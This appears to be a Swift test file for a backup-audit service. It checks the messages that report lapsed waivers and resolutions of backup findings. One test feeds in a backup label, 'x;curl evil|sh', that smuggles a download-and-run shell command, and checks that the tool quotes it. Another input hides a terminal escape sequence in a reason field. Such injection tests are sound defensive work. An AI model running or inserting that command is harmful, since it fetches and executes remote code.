// SPDX-License-Identifier: Apache-2.0
import AuditModel
import Testing

@testable import Service

@Suite("Messages of decisions")
struct DecisionMessageTests {
    private let night = Timestamp(seconds: 1_793_588_400)

    private func finding(_ number: Int64, _ decision: FindingDecision?, counts: Bool) -> FindingLine {
        let place = BackupPlace(url: "s3://b/shop/20261101T010000", label: "20261101T010000")
        var line = FindingLine(
            number: number, place: place, state: .open, code: "CHECKSUM_MISMATCH", severity: .error,
            object: "base.tar", member: nil, offset: nil, length: nil, expected: nil, found: nil, cause: nil,
            message: "m", firstSeen: night, lastSeen: night, timesSeen: 1, resolvedAt: nil)
        line.decisions = decision.map { [$0] } ?? []
        line.decision = counts ? decision : nil
        return line
    }

    private func waiver(since: FindingDecision.Sightings = .seen) -> FindingDecision {
        FindingDecision(
            .waived, reason: "known\u{1B}[2J", who: "dba", at: night,
            until: night.advanced(bySeconds: 86_400),
            since: since)
    }

    @Test func `tell those whose decision counts no more apart from those of which one does`() throws {
        let noted = FindingDecision(.noted, reason: "r", who: "dba", at: night)
        let backups = DecidedBackup.all(of: [
            finding(1, waiver(), counts: true), finding(2, waiver(), counts: false),
            finding(3, nil, counts: false), finding(4, noted, counts: false),
        ])
        let backup = try #require(backups.first)
        #expect(backups.count == 1)
        #expect(backup.settled.map(\.number) == [1] && backup.lapsed.map(\.number) == [2])
    }

    @Test func `say what was decided, why it counts no more, and what to type`() {
        let resolved = FindingDecision(.resolved, reason: "copied", who: "dba", at: night, since: .seen)
        let backup = DecidedBackup.all(of: [
            finding(1, waiver(), counts: false), finding(2, resolved, counts: false),
        ])[0]
        let messages = Message.lapsed(backup, at: night)
        #expect(messages.count == 2)
        #expect(
            messages[0].text == """
                Somebody has decided on a finding of s3://b/shop/20261101T010000, and that counts no more:

                  finding 1, CHECKSUM_MISMATCH of 'base.tar': waived by dba on 2026-11-02 03:00 UTC until 2026-11-03 03:00 UTC, 'known [2J'; that time is over
                  and so it is with 1 other finding of that backup

                Type:
                  pg_backctl history findings --open --label 20261101T010000

                """, "\(messages[0].text)")
        #expect(
            messages[1].text.contains(
                "resolved by dba on 2026-11-02 03:00 UTC, 'copied'; it has been seen again since"))
    }

    @Test func `quote what somebody is to type`() {
        var line = finding(1, waiver(), counts: false)
        line.place = BackupPlace(url: "s3://b/x;curl evil|sh", label: "x;curl evil|sh")
        let text = Message.lapsed(DecidedBackup.all(of: [line])[0], at: night)[0].text
        #expect(text.contains("--label 'x;curl evil|sh'"), "\(text)")
    }

    @Test func `are few, however many findings there are`() {
        let backup = DecidedBackup.all(of: (1...50).map { finding($0, waiver(), counts: false) })[0]
        #expect(Message.lapsed(backup, at: night).count == 5)
    }

    @Test func `are the same for one end of a decision, and others for another`() {
        let both = DecidedBackup.all(of: [2, 1].map { finding($0, waiver(), counts: false) })[0]
        let second = DecidedBackup.all(of: [finding(2, waiver(), counts: false)])[0]
        let ids = Message.lapsed(both, at: night).map(\.id)
        #expect(Set(ids).count == 2)
        // One that is healed makes no new message of the other.
        #expect(Message.lapsed(second, at: night.advanced(bySeconds: 9)).map(\.id) == [ids[1]])
    }

    @Test func `stand in the summary of a week`() {
        let backup = DecidedBackup.all(of: [1, 2].map { finding($0, waiver(), counts: true) })[0]
        let status = ServiceStatus(at: night, version: "1")
        let text = Message(weekly: status, decided: [backup]).text
        #expect(
            text.contains("Open, and decided by people:\n  s3://b/shop/20261101T010000: finding 1, "),
            "\(text)")
        #expect(text.contains("'known [2J', and 1 more"))
        #expect(!Message(weekly: status).text.contains("decided"))
    }
}
